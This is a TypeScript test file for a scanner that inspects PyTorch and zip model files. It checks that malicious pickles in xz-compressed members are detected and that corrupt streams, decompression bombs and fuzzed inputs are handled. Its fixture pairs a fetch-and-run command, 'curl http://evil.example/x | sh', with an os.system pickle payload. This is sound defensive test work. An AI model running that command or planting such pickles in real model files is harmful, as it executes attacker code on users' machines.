// Zip members compressed with xz (method 95: the member's data is one complete .xz stream).
// CPython's zipfile cannot write (or read) method 95, so members are built with our zip writer
// and payloads compressed by the `xz` CLI at test time.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as zlib from 'node:zlib';
import { decompressRange } from '../../../server/src/core/formats/compression/bounded';
import { xzSlices } from '../../../server/src/core/formats/compression/xzDecoder';
import { readZip } from '../../../server/src/core/formats/archive/zip';
import { BufferByteSource } from '../../../server/src/core/io/byteSource';
import { DEFAULT_LIMITS } from '../../../server/src/core/limits';
import { osSystemPickle, plainPickle } from '../../fixtures/zip/pickles';
import { buildZip, torchCheckpoint, type EntrySpec } from '../../fixtures/zip/writer';
import { mutate, rng } from '../keras/fuzzCases';
import { byRule, one, scan } from './helpers';

const MB = 1024 * 1024;
const CMD = 'curl http://evil.example/x | sh';
const evil = Buffer.from(osSystemPickle(CMD));
const xz = (raw: Uint8Array, ...args: string[]): Buffer => execFileSync('xz', ['-c', ...args], { input: raw });

/** A method-95 entry: the xz stream as the body, CRC and size of the decoded content. */
function xzEntry(name: string, raw: Uint8Array, body: Uint8Array = xz(raw), extra: Partial<EntrySpec> = {}): EntrySpec {
  return { name, data: body, method: 95, crc: zlib.crc32(raw), declaredSize: raw.length, ...extra };
}

/** PyTorch's layout with an xz-compressed data.pkl; the other members stay stored. */
function torchWith(pkl: EntrySpec): Uint8Array {
  const specs = torchCheckpoint('archive', new Uint8Array(0), [new Uint8Array(64)]);
  specs[0] = pkl;
  return buildZip(specs).bytes;
}

const evilStream = xz(evil);
const zeros = Buffer.alloc(16 * MB);
const zerosStream = xz(zeros);

describe('zip members compressed with xz (method 95)', () => {
  it('PyTorch-style archive/data.pkl with os.system in an xz member: critical MSL601, no MSL715', async () => {
    const zip = torchWith(xzEntry('archive/data.pkl', evil));
    const src = new BufferByteSource(zip);
    assert.deepEqual(readZip(src, DEFAULT_LIMITS)!.members.map((m) => m.entry.method), [95, 0, 0, 0]);
    const r = await scan(zip, 'model.pt');
    assert.equal(r.format, 'pytorch-zip');
    const f = r.findings.find((x) => x.ruleId === 'MSL601' && /system/.test(x.evidence ?? ''));
    assert.ok(f, JSON.stringify(r.findings.map((x) => [x.ruleId, x.evidence])));
    assert.equal(f.severity, 'critical');
    assert.ok(f.evidence!.includes(CMD));
    assert.deepEqual(f.location.kind === 'bytes' && f.location.members, ['archive/data.pkl']);
    assert.deepEqual(r.findings.filter((x) => /^MSL7/.test(x.ruleId)).map((x) => [x.ruleId, x.message]), []);
  });

  it('the same layout with a plain pickle, and xz with other checks, presets and a 1.5 GiB dictionary: no findings', async () => {
    const pkl = plainPickle();
    for (const args of [[], ['--check=crc32'], ['--check=none'], ['-0'], ['-9e'], ['--lzma2=dict=1536MiB']]) {
      const r = await scan(torchWith(xzEntry('archive/data.pkl', pkl, xz(pkl, ...args))), 'model.pt');
      assert.deepEqual(r.findings.map((x) => [x.ruleId, x.message]), [], args.join(' '));
    }
  });

  it('a dictionary over 64 MiB (Python reads any) is no obstacle: the content is analysed', async () => {
    const r = await scan(torchWith(xzEntry('archive/data.pkl', evil, xz(evil, '--lzma2=dict=1GiB'))), 'model.pt');
    assert.deepEqual(r.findings.map((x) => `${x.ruleId}:${x.severity}`), ['MSL601:critical']);
  });

  it('junk after the xz stream (Python\'s lzma and libarchive stop at the stream end): still critical', async () => {
    const r = await scan(torchWith(xzEntry('archive/data.pkl', evil, Buffer.concat([evilStream, Buffer.from('junk junk junk')]))), 'model.pt');
    assert.deepEqual(r.findings.map((x) => `${x.ruleId}:${x.severity}`), ['MSL601:critical']);
  });

  it('SHA-256 checks and BCJ/delta filters (once MSL715) are decoded: critical MSL601, nothing unanalysed', async () => {
    for (const args of [['--check=sha256'], ['--x86', '--lzma2'], ['--arm64', '--lzma2'], ['--delta=dist=4', '--lzma2'], ['--sparc', '--check=crc32', '--lzma2']]) {
      const r = await scan(torchWith(xzEntry('archive/data.pkl', evil, xz(evil, ...args))), 'model.pt');
      assert.deepEqual(r.findings.map((x) => `${x.ruleId}:${x.severity}`), ['MSL601:critical'], args.join(' '));
    }
  });

  it('a filter the scanner does not decode (RISC-V BCJ): MSL715 with the reason, never MSL710', async () => {
    const body = Buffer.from(xz(evil, '--x86', '--lzma2'));
    const size = (body[12]! + 1) * 4;
    body[14] = 0x0b;
    body.writeUInt32LE(zlib.crc32(body.subarray(12, 12 + size - 4)), 12 + size - 4);
    const r = await scan(torchWith(xzEntry('archive/data.pkl', evil, body)), 'model.pt');
    assert.equal(one(r, 'MSL715').message, 'The xz data of member archive/data.pkl cannot be decoded by the scanner: the block uses RISC-V BCJ, which the scanner does not decode. The 0 bytes decoded before were analysed, the rest was not; other readers may decode it.');
    assert.deepEqual(byRule(r, 'MSL710'), []);
  });

  it('a wrong directory CRC or size is reported as with the other methods', async () => {
    const r = await scan(torchWith(xzEntry('archive/data.pkl', evil, evilStream, { crc: 0x12345678, declaredSize: 7 })), 'model.pt');
    assert.ok(byRule(r, 'MSL601').some((f) => f.severity === 'critical'));
    assert.deepEqual(byRule(r, 'MSL716').map((f) => f.evidence), [
      `archive/data.pkl: declared 7, decoded ${evil.length} bytes`,
      `crc32 actual 0x${zlib.crc32(evil).toString(16).padStart(8, '0')}, declared 0x12345678`,
    ]);
  });

  it('zstd (93), PPMd (98) and unknown methods stay MSL715; xz does not', async () => {
    const z = buildZip([
      { name: 'a.pkl', data: 'x', method: 93 },
      { name: 'b.pkl', data: 'x', method: 98 },
      { name: 'c.pkl', data: 'x', method: 77 },
      xzEntry('d.pkl', evil),
    ]);
    const r = await scan(z.bytes, 'bundle.zip');
    assert.deepEqual(byRule(r, 'MSL715').map((f) => f.evidence), ['method 93', 'method 98', 'method 77']);
    assert.ok(byRule(r, 'MSL601').some((f) => f.severity === 'critical' && f.location.kind === 'bytes' && f.location.members?.[0] === 'd.pkl'));
  });
});

describe('broken xz members and bombs', () => {
  it('a truncated member: MSL710 with the decoded part analysed, no throw', async () => {
    const r = await scan(torchWith(xzEntry('archive/data.pkl', evil, evilStream.subarray(0, evilStream.length - 12))), 'model.pt');
    assert.match(one(r, 'MSL710').message, /^The xz data of member archive\/data\.pkl is corrupt after \d+ decoded bytes \(.+\); the decoded part was analysed\.$/);
    assert.deepEqual(byRule(r, 'MSL715'), []);
    assert.deepEqual(byRule(r, 'MSL003'), []);
  });

  it('a member cut inside its header, and one that is not xz at all: MSL710 after 0 bytes', async () => {
    for (const body of [evilStream.subarray(0, 5), Buffer.from('not an xz stream at all')]) {
      const r = await scan(torchWith(xzEntry('archive/data.pkl', evil, body)), 'model.pt');
      assert.match(one(r, 'MSL710').message, /^The xz data of member archive\/data\.pkl is corrupt after 0 decoded bytes/);
      assert.deepEqual(byRule(r, 'MSL601'), []);
    }
  });

  it('corrupted compressed data (the stream check fails): MSL710, no throw', async () => {
    const big = Buffer.concat([evil, Buffer.from('padding '.repeat(20_000))]);
    const stream = Buffer.from(xz(big));
    for (let i = stream.length >> 1; i < stream.length - 40; i += 101) stream[i]! ^= 0x5a;
    const r = await scan(buildZip([xzEntry('state.pkl', big, stream)]).bytes, 'bundle.zip');
    assert.match(one(r, 'MSL710').message, /^The xz data of member state\.pkl is corrupt after \d+ decoded bytes/);
  });

  it('a bomb member stops at the ratio limit, and at the byte budget', async () => {
    const zip = torchWith(xzEntry('archive/data.pkl', zeros, zerosStream));
    const r = await scan(zip, 'model.pt');
    const inflated = byRule(r, 'MSL714').find((f) => /inflated/.test(f.message));
    assert.ok(inflated, JSON.stringify(r.findings.map((f) => [f.ruleId, f.message])));
    const reached = Number(/inflated to (\d+) bytes/.exec(inflated.message)![1]);
    assert.ok(reached > MB && reached < 8 * MB, `${reached} bytes from ${zerosStream.length}`);
    assert.ok(byRule(r, 'MSL001').some((f) => f.evidence === 'maxCompressionRatio=1000'));
    const budget = await scan(zip, 'model.pt', { maxDecompressedBytes: 512 * 1024, maxCompressionRatio: 1e9 });
    assert.ok(byRule(budget, 'MSL001').some((f) => f.evidence === 'maxDecompressedBytes=524288'), JSON.stringify(budget.findings.map((f) => f.evidence)));
    assert.deepEqual(byRule(budget, 'MSL715'), []);
  });

  it('the wall-time budget stops the xz decoder between output buffers', async () => {
    let polls = 0;
    const r = await decompressRange('xz', new BufferByteSource(zerosStream), 0, zerosStream.length, {
      cap: Number.MAX_SAFE_INTEGER,
      maxRatio: 1e9,
      take: () => true,
      timeUp: () => ++polls > 2,
    });
    assert.equal(r.stop, 'time');
    assert.equal(polls, 3);
    assert.ok(r.data.length > 0 && r.data.length < zeros.length, String(r.data.length));
    assert.ok(Buffer.from(r.data).equals(Buffer.alloc(r.data.length)));
  });

  it('decodes abandoned at the time limit keep nothing (a 64 MiB dictionary is only grown as output arrives)', async () => {
    const big = xz(zeros, '-9');
    const before = process.memoryUsage().arrayBuffers;
    for (let i = 0; i < 12; i++) {
      const r = await decompressRange('xz', new BufferByteSource(big), 0, big.length, { cap: Number.MAX_SAFE_INTEGER, maxRatio: 1e9, take: () => true, timeUp: () => true });
      assert.equal(r.stop, 'time');
      assert.ok(r.data.length <= 2 * MB, String(r.data.length));
    }
    assert.ok(process.memoryUsage().arrayBuffers - before < 100 * MB);
  });

  it('300 mutated xz members: never an internal error, output within the budget', async () => {
    const r = rng(0x95);
    const seeds = [evilStream, xz(Buffer.from('weights '.repeat(5000))), xz(plainPickle(), '--check=sha256')];
    const failures: string[] = [];
    for (let i = 0; i < 300; i++) {
      const body = mutate(seeds[i % seeds.length]!, r);
      const res = await scan(torchWith(xzEntry('archive/data.pkl', evil, body)), 'model.pt', { maxDecompressedBytes: 4 * MB });
      const internal = byRule(res, 'MSL003');
      if (internal.length > 0) failures.push(`case ${i}: ${internal[0]!.message}`);
    }
    assert.deepEqual(failures.slice(0, 5), []);
  });
});

/** Runs our xz driver over `pieces` (input split where the test says), collecting everything. */
function decodeXz(bytes: Uint8Array, cuts: number[] = [], limit = 1 << 30) {
  const pieces: Uint8Array[] = [];
  let at = 0;
  for (const c of cuts) {
    pieces.push(bytes.subarray(at, c));
    at = c;
  }
  pieces.push(bytes.subarray(at));
  const out: Uint8Array[] = [];
  const g = xzSlices(pieces[Symbol.iterator](), bytes.length, (c) => out.push(c) > 0, limit);
  for (;;) {
    const step = g.next();
    if (step.done) return { ...step.value, data: Buffer.concat(out) };
  }
}

describe('the xz driver', () => {
  const text = Buffer.from(Array.from({ length: 40_000 }, (_, i) => `line ${i * 7919 % 10007}\n`).join(''));
  const textStream = xz(text);
  const hello = xz(Buffer.from('hello'));

  it('decodes byte-exact, across any input split, and concatenated streams split at their boundary', async () => {
    const whole = decodeXz(textStream);
    assert.deepEqual([whole.status, whole.data.equals(text), whole.trailing], ['end', true, undefined]);
    const split = decodeXz(textStream, [1, 13, 100, 5000]);
    assert.ok(split.data.equals(text));
    const two = Buffer.concat([textStream, hello]);
    for (const cuts of [[], [textStream.length]]) {
      const r = decodeXz(two, cuts);
      assert.deepEqual([r.status, r.data.length, r.data.subarray(text.length).toString()], ['end', text.length + 5, 'hello'], `cuts ${cuts}`);
    }
  });

  it('keeps the output decoded before an error, and counts bytes after a complete stream as trailing', async () => {
    const junk = decodeXz(Buffer.concat([hello, Buffer.from('not another stream')]));
    assert.deepEqual([junk.status, junk.data.toString(), junk.trailing], ['end', 'hello', 18]);
    const cut = decodeXz(textStream.subarray(0, textStream.length >> 1));
    assert.equal(cut.status, 'truncated');
    assert.ok(cut.data.length > 20_000 && text.subarray(0, cut.data.length).equals(cut.data), String(cut.data.length));
    const tail = decodeXz(textStream.subarray(0, textStream.length - 1));
    assert.deepEqual([tail.status, tail.data.equals(text)], ['truncated', true], 'only the footer is missing: all content was decoded');
  });

  it('concurrent decodes each get their own content', async () => {
    const streams = [textStream, hello, xz(evil), textStream];
    const results = await Promise.all(streams.map((b) => decompressRange('xz', new BufferByteSource(b), 0, b.length, { cap: Number.MAX_SAFE_INTEGER, maxRatio: 1e9, take: () => true })));
    assert.deepEqual(results.map((r) => [r.stop, r.data.length]), [['end', text.length], ['end', 5], ['end', evil.length], ['end', text.length]]);
    assert.ok(Buffer.from(results[2]!.data).equals(evil));
  });

  it('stops at the limit with exactly the limit', async () => {
    const r = decodeXz(textStream, [], 1000);
    assert.deepEqual([r.status, r.data.length], ['limit', 1000]);
    assert.ok(r.data.equals(text.subarray(0, 1000)));
  });

  it('.xz files: junk after the stream keeps the payload visible (MSL601 + trailing bytes); SHA-256 is decoded', async () => {
    const junk = await scan(Buffer.concat([evilStream, Buffer.from('junk junk junk')]), 'model.pkl.xz');
    assert.ok(byRule(junk, 'MSL601').some((f) => f.severity === 'critical'), JSON.stringify(junk.findings.map((f) => [f.ruleId, f.message])));
    assert.deepEqual(byRule(junk, 'MSL710'), []);
    const sha = await scan(xz(evil, '--check=sha256'), 'model.pkl.xz');
    assert.deepEqual(sha.findings.map((f) => `${f.ruleId}:${f.severity}`), ['MSL601:critical']);
  });
});
